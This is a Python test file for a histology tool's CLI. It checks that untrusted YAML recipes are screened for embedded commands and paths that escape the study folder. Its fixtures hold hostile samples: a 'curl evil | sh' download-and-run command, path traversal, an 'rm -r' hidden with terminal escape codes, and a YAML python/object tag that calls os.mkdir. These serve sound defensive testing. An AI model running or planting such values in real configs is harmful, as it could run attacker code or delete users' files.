"""A stranger's recipe: what it would run, and where it would reach, is shown and confirmed; all else goes on as it is."""

from __future__ import annotations

from pathlib import Path

import click
import pytest
from click.testing import CliRunner
from pydantic import BaseModel
from ruamel.yaml import YAML

from histoloom.cli import recipe
from histoloom.cli.main import cli
from histoloom.cli.recipe import COMMANDS, brought
from histoloom.config import Params

RECIPES = Path(__file__).parents[2] / "recipes"
HOSTILE = """
tile: {summarise: "sh -c 'curl evil | sh'", slides_root: ../../elsewhere}
sample_slides: {slides: [{name: s, width_px: 8, height_px: 8, mask: /etc/mask.png}]}
"""


def _init(folder: Path, text: str, *options: str, **kwargs):
    (folder / "stranger.yaml").write_text(text)
    return CliRunner().invoke(
        cli, ["init", str(folder / "study"), "--recipe", str(folder / "stranger.yaml"), *options], **kwargs
    )


def _said(result) -> str:
    return " ".join(result.output.split())


def test_commands_and_paths_out_of_the_study_are_shown_and_refused_where_nobody_confirms(tmp_path):
    done = _init(tmp_path, HOSTILE)
    assert done.exit_code == 1 and not (tmp_path / "study").exists() and not (tmp_path.parent / "elsewhere").exists()
    for line in (
        "tile.summarise runs: \"sh -c 'curl evil | sh'\"",
        "tile.slides_root leads out of the study: '../../elsewhere'",
        "sample_slides.slides.mask leads out of the study: '/etc/mask.png'",
        "nobody is there to confirm it. Read it; then add --trust-recipe.",
    ):
        assert line in _said(done)


@pytest.mark.parametrize(("answer", "code"), [("y\n", 0), ("n\n", 1), ("\n", 1)])
def test_at_a_terminal_it_is_asked(tmp_path, monkeypatch, answer, code):
    monkeypatch.setattr(recipe, "_at_a_terminal", lambda: True)
    done = _init(tmp_path, HOSTILE, input=answer)
    assert done.exit_code == code and (tmp_path / "study").exists() == (code == 0)
    assert "Make a study with it?" in done.output


def test_one_that_is_trusted_is_taken_and_makes_no_folder_outside(tmp_path):
    done = _init(tmp_path, HOSTILE, "--trust-recipe")
    assert done.exit_code == 0 and "tile.summarise runs" in _said(done), done.output
    written = YAML(typ="safe").load((tmp_path / "study/params.yaml").read_text())
    assert written["tile"]["slides_root"] == "../../elsewhere" and not (tmp_path.parent / "elsewhere").exists()


def test_one_without_either_goes_on_without_a_terminal(tmp_path):
    text = (
        "tile: {mpp: 0.5, spots: manifests/spots.csv, caption: '{label}: and/or'}\nemit: {licence: 'https://x.org/l'}\n"
    )
    done = _init(tmp_path, text)
    assert done.exit_code == 0 and "brings" not in done.output, done.output


@pytest.mark.parametrize("path", sorted(RECIPES.glob("*.yaml")), ids=lambda p: p.stem)
def test_the_packaged_bring_nothing(path):
    assert list(brought(YAML(typ="safe").load(path.read_text()))) == []


@pytest.mark.parametrize(
    "value",
    [
        "/a",
        "../a",
        "a/../../b",
        "a/..",
        "~/a",
        "s3://b/a",
        "http://x/a",
        "timm:local-dir:/a",
        "transformers:../a",
        " /a",
    ],
)
def test_what_leads_out_of_a_study(value):
    assert list(brought({"evaluate": {"weights": value}})) == [f"evaluate.weights leads out of the study: {value!r}"]
    assert list(brought({"plan": [{"deep": [value]}]}))


@pytest.mark.parametrize("value", ["a", "manifests/a.csv", "hf-hub:ORG/NAME", "timm:vit.in1k", "a..b/c...", "N/A", ""])
def test_what_stays_in_a_study(value):
    assert not list(brought({"evaluate": {"weights": value}}))


def test_what_hides_itself_on_a_terminal_is_written_out():
    (line,) = brought({"uplift": {"command": "rm -r x\x1b[2K\rls"}})
    assert line == r"uplift.command runs: 'rm -r x\x1b[2K\rls'"
    assert list(brought({"tile": {"summarise": ["rm", "x"]}})) == ["tile.summarise runs: ['rm', 'x']"]
    assert not list(brought({"tile": {"summarise": None}, "uplift": {"command": None}}))


def _fields(model: type[BaseModel], key: tuple[str, ...] = ()):
    for name, field in model.model_fields.items():
        inner = field.annotation
        if isinstance(inner, type) and issubclass(inner, BaseModel):
            yield from _fields(inner, (*key, name))
        else:
            yield (*key, name), field.description or ""


def test_every_key_that_names_a_command_is_known():
    named = {
        key for key, said in _fields(Params) if "command" in key[-1] or said.startswith(("command that", "called for"))
    }
    assert named == set(COMMANDS)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("- a\n", "is no mapping"),
        ("text\n", "is no mapping"),
        ("a: [\n", "is not valid YAML"),
        ("a: 1\na: 2\n", "is not valid YAML"),
        ("a: !!python/object/apply:os.mkdir [ran]\n", "is not valid YAML"),
        ("tile: {slides_root: !!binary Li4vLi4vZWxzZXdoZXJl}\n", "tile.slides_root is a bytes"),
        ("tile: {slides_root: !!set {../elsewhere}}\n", "tile.slides_root is a set"),
        ("tile: {slides_root: !!omap [a: ../elsewhere]}\n", "tile.slides_root is a"),
        ("tile: {labels: {classes: [2020-01-01]}}\n", "tile.labels.classes is a "),
        ("!!binary dGlsZQ==: {mpp: 1}\n", "is a bytes"),
        ("tile: &a {mpp: 1, labels: *a}\n", "tile.labels refers to itself"),
        ("tile: &a [*a]\n", "tile refers to itself"),
        ("a: " + "[" * 50 + "]" * 50, "lies deeper than 12 levels"),
        ("tile: ~\n", "tile.slides_root"),
        ("tile: {slides_root: 3}\n", "tile.slides_root"),
    ],
)
def test_what_is_no_recipe_is_said_and_makes_nothing(tmp_path, text, said):
    done = _init(tmp_path, text)
    assert done.exit_code == 1 and said in _said(done) and not (tmp_path / "study").exists(), done.output
    assert done.exception is None or isinstance(done.exception, (SystemExit, click.exceptions.Exit))
